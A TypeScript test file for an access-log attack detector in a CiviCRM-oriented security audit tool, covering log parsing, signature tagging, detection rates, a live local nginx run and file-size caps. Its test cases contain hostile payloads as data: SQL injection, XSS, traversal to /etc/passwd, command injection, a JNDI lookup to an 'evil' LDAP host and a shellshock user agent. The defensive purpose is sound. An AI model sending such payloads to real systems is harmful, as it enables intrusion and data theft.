import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { runChecks } from '../../core/runner.js';
import { readAccessLogs, scoreLine } from '../../probes/access-log.js';
import { nginxAvailable, startNginx, type NginxHandle } from '../../test-support/servers/nginx.js';
import { judge, statuses, testTarget } from '../../test-support/facts.js';
import events from './events.js';

/** Sends one raw HTTP/1.1 request (so that odd targets reach the server as written) and waits for the close. */
function rawRequest(port: number, target: string, headers: Record<string, string> = {}): Promise<void> {
  return new Promise((resolve, reject) => {
    const s = connect(port, '127.0.0.1');
    const lines = [`GET ${target} HTTP/1.1`, 'Host: site.test', 'Connection: close'];
    for (const [k, v] of Object.entries({ 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64)', ...headers }))
      lines.push(`${k}: ${v}`);
    s.on('connect', () => s.write(lines.join('\r\n') + '\r\n\r\n'));
    s.on('data', () => undefined);
    s.on('close', () => resolve());
    s.on('error', reject);
  });
}

const line = (target: string, status = 200, ua = 'Mozilla/5.0', ip = '198.51.100.7') =>
  `${ip} - - [04/Dec/2026:10:00:00 +0000] "GET ${target} HTTP/1.1" ${status} 512 "-" "${ua}"`;

describe('access-log parsing and signatures', () => {
  it('parses the combined format through the engine’s parser', () => {
    const r = scoreLine(
      `203.0.113.9 - bob [04/Dec/2026:10:00:00 +0000] "POST /civicrm/contribute/transact?reset=1 HTTP/1.1" 302 0 "https://x/" "curl/8.0"`,
    );
    assert.deepEqual(r?.req, {
      source: '203.0.113.9',
      time: '04/Dec/2026:10:00:00 +0000',
      method: 'POST',
      target: '/civicrm/contribute/transact?reset=1',
      status: 302,
      referer: 'https://x/',
      userAgent: 'curl/8.0',
    });
    assert.equal(scoreLine('garbage'), null);
  });
  const cases: [string, { target?: string; ua?: string }, string[]][] = [
    [
      'union select (encoded)',
      { target: '/?id=1%27%20UNION%20ALL%20SELECT%20user,pass%20FROM%20users--' },
      ['sqli'],
    ],
    ['boolean sqli', { target: "/civicrm/event/info?id=1' or '1'='1" }, ['sqli']],
    ['time-based sqli', { target: '/?id=1 AND SLEEP(5)' }, ['sqli']],
    ['script tag', { target: '/?q=%3Cscript%3Ealert(1)%3C/script%3E' }, ['xss']],
    ['double-encoded traversal', { target: '/download?file=..%252f..%252f..%252fetc%252fpasswd' }, ['lfi']],
    ['php wrapper', { target: '/index.php?page=php://filter/convert.base64-encode/resource=index' }, ['lfi']],
    ['command injection', { target: '/ping?host=127.0.0.1;cat%20/etc/passwd' }, ['cmdi']],
    ['jndi', { target: '/?x=${jndi:ldap://evil/a}' }, ['ssti']],
    ['.git probe', { target: '/.git/config' }, ['recon']],
    ['settings backup probe', { target: '/sites/default/civicrm.settings.php.bak' }, ['recon']],
    [
      'OpenFlashChart exploit',
      { target: '/sites/all/modules/civicrm/packages/OpenFlashChart/php-ofc-library/ofc_upload_image.php' },
      ['exploit'],
    ],
    ['sqlmap user agent', { target: '/', ua: 'sqlmap/1.7#stable (https://sqlmap.org)' }, ['scanner']],
    ['shellshock user agent', { target: '/cgi-bin/status', ua: '() { :; }; /bin/bash -c "id"' }, ['cmdi']],
    ['benign contribution page', { target: '/civicrm/contribute/transact?reset=1&id=3' }, []],
    [
      'benign search with quotes in a name',
      { target: "/civicrm/contact/search?name=O'Brien&sort_name=D%27Amore" },
      [],
    ],
    ['benign WordPress page', { target: '/wp-admin/admin.php?page=CiviCRM&q=civicrm/dashboard&reset=1' }, []],
    ['benign asset', { target: '/sites/all/modules/civicrm/js/Common.js?r=abc123' }, []],
  ];
  // The engine may add tags (a traversal is also an LFI); each case must carry at least its own.
  for (const [name, c, tags] of cases) {
    it(name, () => {
      const r = scoreLine(line(c.target ?? '/', 200, c.ua ?? 'Mozilla/5.0'))!;
      if (tags.length === 0) assert.deepEqual(r.score.tags, []);
      for (const t of tags) assert.ok(r.score.tags.includes(t), `${t} not in ${r.score.tags.join(',')}`);
    });
  }

  const corpora =
    process.env.CIVIGUARD_CORPORA ?? new URL('../../../../shared/corpora/', import.meta.url).pathname;
  const load = (f: string) => {
    const p = join(corpora, f);
    return existsSync(p) ? (JSON.parse(readFileSync(p, 'utf8')) as string[]) : null;
  };
  it('corpora: benign form values as query strings raise (almost) nothing; attacks are mostly seen', (t) => {
    const faker = load('benign-faker-form-values.json');
    const sqli = load('attack-httpparams-sqli.json');
    const xss = load('attack-httpparams-xss.json');
    if (!faker || !sqli || !xss) return t.skip(`corpora not found under ${corpora} (set CIVIGUARD_CORPORA)`);
    const rate = (values: string[]) =>
      values.filter(
        (v) =>
          scoreLine(line(`/civicrm/profile/create?gid=1&first_name=${encodeURIComponent(v)}`))!.score.tags
            .length,
      ).length / values.length;
    const fp = rate(faker);
    // Quality gates on the engine as the audit uses it (rates, not timings).
    assert.ok(fp < 0.002, `benign faker values flagged: ${(fp * 100).toFixed(2)} %`);
    assert.ok(rate(sqli) > 0.9, `sqli seen: ${(rate(sqli) * 100).toFixed(1)} %`);
    assert.ok(rate(xss) > 0.9, `xss seen: ${(rate(xss) * 100).toFixed(1)} %`);
  });
});

describe('ids.events on a real nginx access log', () => {
  let ngx: NginxHandle | null = null;
  let dir: string;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'civiguard-logs-'));
    if (!nginxAvailable()) return;
    ngx = await startNginx({
      servers: (p, d) => `server { listen 127.0.0.1:${p.http}; server_name site.test; root ${d}/site; }`,
      files: {
        'site/index.html': '<h1>site</h1>',
        'site/.git/config': '[core]\n',
        'site/civicrm/index.html': 'civicrm',
      },
    });
    const port = ngx.ports.http;
    for (let i = 0; i < 20; i++) await rawRequest(port, `/civicrm/?page=${i}`);
    await rawRequest(port, '/index.html?id=1%27%20UNION%20SELECT%20password%20FROM%20civicrm_contact--'); // 200
    await rawRequest(port, '/.git/config'); // 200
    await rawRequest(port, '/civicrm/?q=%3Cscript%3Ealert(1)%3C/script%3E'); // 200 (static ignores the query)
    await rawRequest(port, '/wp-config.php.bak'); // 404
    await rawRequest(port, '/cgi-bin/status', { 'User-Agent': '() { :; }; /bin/bash -c id' }); // 404
    await rawRequest(port, '/', { 'User-Agent': 'sqlmap/1.7' }); // 200, scanner only
    // nginx writes the access log line after the response; wait for all of them.
    const log = join(ngx.dir, 'logs/access.log');
    for (let i = 0; i < 100 && (!existsSync(log) || readFileSync(log, 'utf8').split('\n').length < 27); i++) {
      await new Promise((r) => setTimeout(r, 20));
    }
  });
  after(async () => {
    await ngx?.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  it('counts attempts by tag and source; the 2xx ones fail it', async (t) => {
    if (!ngx) return t.skip('nginx is not installed');
    const log = join(ngx.dir, 'logs/access.log');
    const out = await runChecks(testTarget({ accessLogs: [log] }), [events]);
    assert.deepEqual(statuses(out.results), ['ids.events.summary:fail', 'ids.events.answered:fail']);
    const [summary, answered] = out.results;
    assert.equal(summary!.severity, 'info');
    assert.match(summary!.message, /^6 attack attempts in 26 requests .* from 1 source: /);
    assert.match(summary!.message, /127\.0\.0\.1 \(6\)/);
    assert.equal(answered!.severity, 'warning');
    assert.match(answered!.message, /^3 attacks got a 2xx answer/);
    const ev = answered!.evidence as { answered: { target: string; status: number }[] };
    assert.deepEqual(
      ev.answered.map((a) => a.target.split('?')[0]),
      ['/index.html', '/.git/config', '/civicrm/'],
    );
  });

  it('gzip, a clean log, a file that is not a log, a missing file', async () => {
    const clean = join(dir, 'clean.log.gz');
    writeFileSync(
      clean,
      gzipSync(Array.from({ length: 500 }, (_, i) => line(`/civicrm/event/info?id=${i}`)).join('\n')),
    );
    const notLog = join(dir, 'notes.txt');
    writeFileSync(notLog, 'hello\nworld\n');
    const out = await runChecks(testTarget({ accessLogs: [clean, notLog, join(dir, 'missing.log')] }), [
      events,
    ]);
    assert.deepEqual(statuses(out.results), [
      'ids.events.summary:pass',
      'ids.events.answered:pass',
      'ids.events.input:error',
      'ids.events.input:error',
    ]);
    assert.match(out.results[0]!.message, /no attack attempt in 500 requests/);
    assert.match(out.results[2]!.message, /not.*combined log format|none of its 2 lines/);
    assert.match(out.results[3]!.message, /ENOENT/);
  });

  it('caps: lines per file, huge lines; a card number in a logged URL is masked', async () => {
    const f = join(dir, 'big.log');
    const pan = '4532015112830366';
    const lines = [line(`/pay?cc=${pan}&x=1%27%20OR%20%271%27=%271`), line(`/?q=${'A'.repeat(100_000)}`)];
    for (let i = 0; i < 1000; i++) lines.push(line(`/p/${i}`));
    writeFileSync(f, lines.join('\n'));
    const facts = await readAccessLogs([f], { maxLinesPerFile: 100 });
    assert.equal(facts.files[0]!.lines, 100);
    assert.match(facts.files[0]!.truncated ?? '', /100 lines/);
    assert.equal(facts.attempts, 1);
    assert.ok(!JSON.stringify(facts).includes(pan));
    assert.match(facts.answered[0]!.target, /453201\*{6}0366/);
  });

  it('a 2 GB sparse file (NUL bytes, no newline): read up to the cap, reported as not a log', async () => {
    const f = join(dir, 'sparse.log');
    writeFileSync(f, '');
    truncateSync(f, 2 * 1024 ** 3);
    const facts = await readAccessLogs([f], { maxBytesPerFile: 64 << 20 });
    assert.deepEqual(facts.files[0], {
      file: f,
      bytes: 64 << 20,
      lines: 1,
      unparsed: 1,
      gzip: false,
      truncated: 'stopped after 64 MiB',
      error: null,
    });
    const r = judge(events, { logs: facts });
    assert.deepEqual(statuses(r), ['ids.events.input:error']);
    assert.match(r[0]!.message, /none of its lines is in the combined log format \(stopped after 64 MiB\)/);
  });

  it('no --access-log: skip', async () => {
    const out = await runChecks(testTarget(), [events]);
    assert.deepEqual(statuses(out.results), ['ids.events:skip']);
  });
});
